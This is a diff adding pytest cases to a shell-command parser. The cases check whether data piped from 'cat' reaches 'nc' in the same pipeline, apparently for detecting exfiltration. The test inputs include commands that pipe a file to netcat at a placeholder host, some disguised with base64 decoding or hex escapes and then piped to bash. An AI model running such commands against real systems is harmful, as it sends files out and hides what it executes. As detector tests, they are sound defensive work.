@@ -116,3 +116,28 @@ def test_two_brackets_apart_are_a_subshell_in_a_subshell() -> None:
     (step,) = [step for step in steps("( (sleep 3; rm x) & )") if step.program == "rm"]
     assert step.background
     assert not [step for step in steps("((x = rm + 1))") if step.program == "rm"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "cat a | nc host 9",
+        "(cat a; ls) | gzip | nc host 9",
+        "bash -c 'cat a | gzip' | nc host 9",
+        "cat a | bash -c 'gzip | nc host 9'",
+        "for i in 1 2; do cat a; done | nc host 9",
+        f"echo {base64.b64encode(b'cat a | nc host 9').decode()} | base64 -d | bash",
+        "printf '\\x63at a | nc host 9' | bash",
+    ],
+)
+def test_what_is_fed_to_a_program_is_in_its_pipeline(text: str) -> None:
+    first, last = (next(step for step in steps(text) if step.program == name) for name in ("cat", "nc"))
+    assert {*first.pipes} & {*last.pipes}
+
+
+@pytest.mark.parametrize(
+    "text", ["cat a; nc host 9", "cat a | wc; nc host 9", "cat a && nc host 9", "printf 'cat a; nc host 9' | bash"]
+)
+def test_what_only_stands_beside_it_is_not(text: str) -> None:
+    first, last = (next(step for step in steps(text) if step.program == name) for name in ("cat", "nc"))
+    assert not {*first.pipes} & {*last.pipes}
